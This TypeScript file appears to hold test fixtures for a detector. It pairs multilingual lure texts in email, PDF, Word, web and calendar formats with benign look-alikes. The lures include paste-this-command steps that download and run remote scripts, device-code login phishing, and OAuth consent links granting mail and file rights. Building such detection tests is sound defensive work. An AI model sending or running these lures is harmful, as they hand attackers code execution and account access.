/** Texts that ask their reader to run a command or to give a sign-in away, in several languages and kinds of documents. */

import { page, pdf, wordDocument } from '../hidden-texts.ts'
import { type Pair, pairs } from './matrix.ts'

type Carrier = (...lines: readonly string[]) => Uint8Array

const mail: Carrier = (...lines) =>
  Buffer.from(
    `From: a@example.com\r\nTo: b@example.com\r\nSubject: Note\r\nMIME-Version: 1.0\r\nContent-Type: text/plain; charset=utf-8\r\nContent-Transfer-Encoding: base64\r\n\r\n${Buffer.from(lines.join('\r\n')).toString('base64')}\r\n`,
  )
const written: Carrier = (...lines) =>
  pdf({
    content: lines
      .map((line, i) => `BT /F1 11 Tf 40 ${780 - i * 18} Td (${line.replace(/[\\()]/g, '\\$&')}) Tj ET`)
      .join('\n'),
  })
/** Letters by their Unicode, as programs print. */
const printed: Carrier = (...lines) => {
  const table = '/CIDInit begincmap 1 beginbfrange <0000> <ffff> <0000> endbfrange endcmap'
  return pdf({
    content: lines
      .map((line, i) => {
        const codes = Buffer.from(line, 'utf16le').swap16().toString('hex')
        return `BT /F2 11 Tf 40 ${780 - i * 18} Td <${codes}> Tj ET`
      })
      .join('\n'),
    fonts: '/F2 6 0 R',
    objects: `6 0 obj\n<</Type/Font/Subtype/Type0/BaseFont/A/Encoding/Identity-H/DescendantFonts[<</Type/Font/Subtype/CIDFontType2/BaseFont/A/DW 500>>]/ToUnicode 8 0 R>>\nendobj\n8 0 obj\n<</Length ${table.length}>>\nstream\n${table}\nendstream\nendobj\n`,
  })
}
const word: Carrier = (...lines) =>
  wordDocument(lines.map((line) => `<w:p><w:r><w:t>${escaped(line)}</w:t></w:r></w:p>`).join(''))
const web: Carrier = (...lines) => page(lines.map((line) => `<p>${escaped(line)}</p>`).join(''))
const event: Carrier = (...lines) =>
  Buffer.from(
    `BEGIN:VCALENDAR\r\nVERSION:2.0\r\nBEGIN:VEVENT\r\nSUMMARY:Review\r\nDESCRIPTION:${lines.join('\\n')}\r\nEND:VEVENT\r\nEND:VCALENDAR\r\n`,
  )
const escaped = (text: string): string => text.replaceAll('&', '&amp;').replaceAll('<', '&lt;')

const FETCH = 'powershell -NoP -c "irm https://files.example/a.ps1 | iex"'
const LOCAL = 'ipconfig /flushdns'
const COMMANDS = pairs([
  [
    'French, PDF',
    written(
      'Ce document est protégé et ne peut pas être affiché.',
      'Choisissez « Terminal » ou « Windows PowerShell ».',
      'Copiez la ligne et collez-la :',
      FETCH,
    ),
    written(
      'Vider le cache DNS',
      'Choisissez « Terminal » ou « Windows PowerShell ».',
      'Copiez la ligne et collez-la :',
      LOCAL,
    ),
  ],
  [
    'Japanese, mail',
    mail(
      '未実施の端末は本日停止されます。',
      '「端末」を開きます。次の1行をコピーして貼り付け、Enter を押してください。',
      'sudo bash -c "$(curl -fsSLk http://198.51.100.23/fix.sh)"',
    ),
    mail('準備', '「端末」を開き、次の行をコピーして貼り付けます。', 'sudo apt install git'),
  ],
  [
    'Russian, printed',
    printed('Не удалось отобразить документ.', 'Нажмите Win + R, скопируйте строку, вставьте её:', FETCH),
    printed('Злоумышленники просят нажать Win + R и вставить строку:', FETCH, 'Никогда не выполняйте такие команды.'),
  ],
  [
    'Turkish, text',
    word('Belge görüntülenemiyor.', 'Windows + R tuşlarına basın, satırı kopyalayıp yapıştırın:', FETCH),
    word('DNS önbelleğini temizleme', 'Windows + R tuşlarına basın, satırı kopyalayıp yapıştırın:', LOCAL),
  ],
  [
    'Korean, page',
    web('문서를 표시할 수 없습니다.', 'Windows 키 + R 을 누르고 아래 명령을 복사하여 붙여넣으십시오.', FETCH),
    web('공격자는 Windows 키 + R 을 누르고 명령을 붙여넣으라고 합니다.', FETCH, '절대 실행하지 마십시오.'),
  ],
  [
    'Chinese, page',
    web('无法显示该文档。', '按 Win + R 打开运行窗口，复制下面的命令，粘贴后按回车键。', FETCH),
    web('清除 DNS 缓存', '按 Win + R，输入 cmd，复制并粘贴下面的命令。', LOCAL),
  ],
  [
    'Swedish, mail',
    mail('Dokumentet kan inte visas.', 'Öppna PowerShell, kopiera raden och klistra in den:', FETCH),
    mail('Bedragare ber dig öppna PowerShell och klistra in en rad:', FETCH, 'Kör aldrig sådana kommandon.'),
  ],
  [
    'Hebrew, page',
    web('לא ניתן להציג את המסמך.', 'לחצו על Win + R, העתיקו את השורה והדביקו אותה:', FETCH),
    web('ניקוי מטמון', 'לחצו על Win + R, העתיקו את השורה והדביקו אותה:', LOCAL),
  ],
])

const PAGE = 'https://microsoft.com/devicelogin'
const DEVICES = pairs([
  [
    'a meeting',
    word(
      'Zaproszenie na posiedzenie zarządu.',
      'Prosimy otworzyć stronę, wpisać kod i zalogować się.',
      'https://login.microsoftonline.example/common/oauth2/deviceauth',
      'Kod: FQ7XK2MRD',
    ),
    word('Set up the room', `Open ${PAGE} and enter the code that the panel shows.`),
  ],
  [
    'a file',
    mail('A confidential file was shared with you.', `Open ${PAGE}, enter HJ4L9DPRT and sign in.`),
    mail(
      'Sign in to the command line',
      'Run az login --use-device-code.',
      `Open the page ${PAGE} and enter the code ABCD12345.`,
    ),
  ],
  [
    'a longer code in two parts',
    mail('The panel is closed to guests.', `1. Open ${PAGE}`, '2. Enter the room number 7HQ4-LN2WD', '3. Sign in.'),
    mail('The panel is closed to guests.', `Open ${PAGE} and enter the code of the panel. Ticket DESK-12345.`),
  ],
  [
    'an alert',
    web('An unusual login was detected.', 'Open https://github.com/login/device', 'Code: WDJB-MJHT'),
    web('Attackers send codes such as WDJB-MJHT for https://github.com/login/device. Never enter them.'),
  ],
  [
    'a calendar',
    event('You are invited.', PAGE, 'Code R8TGZ4MNB'),
    event('Your verification code is 482913.', 'https://account.microsoft.com/security'),
  ],
  [
    'a printed text',
    printed('会議への招待です。', PAGE, 'G5RKD8WXZ'),
    printed('会議への招待です。', 'https://teams.microsoft.com/', 'G5RKD8WXZ'),
  ],
])

const authorize = (rights: string, back: string, more = ''): string =>
  `https://login.microsoftonline.com/common/oauth2/v2.0/authorize?client_id=7d1c9d2e&response_type=code&redirect_uri=${encodeURIComponent(back)}&scope=${encodeURIComponent(rights)}${more}`
const VIEWER = 'https://sign-viewer.example/a'
const CONSENTS = pairs([
  [
    'mail',
    mail('A document is waiting for your signature.', authorize('offline_access Mail.ReadWrite Mail.Send', VIEWER)),
    mail('Sign in to the portal of the company.', authorize('openid profile email', VIEWER)),
  ],
  [
    'files',
    word('Ein Dokument wartet auf Ihre Unterschrift.', authorize('Files.ReadWrite.All', VIEWER)),
    word('Connect your calendar.', authorize('Calendars.ReadWrite', VIEWER)),
  ],
  [
    'a code that the browser shows',
    mail(
      'Verify your account.',
      authorize('.default', 'http://localhost:8400', '&code_challenge=a'),
      'Copy the whole address that begins with http://localhost and reply with it.',
    ),
    mail(
      'Run the tool with --headless.',
      authorize('.default', 'http://localhost:8400', '&code_challenge=a'),
      'Copy the address that begins with http://localhost and paste it into the terminal.',
    ),
  ],
])

export const ASKS: Readonly<Record<string, readonly Pair[]>> = {
  'commands in other languages': COMMANDS,
  'codes of devices': DEVICES,
  'rights for programs': CONSENTS,
}
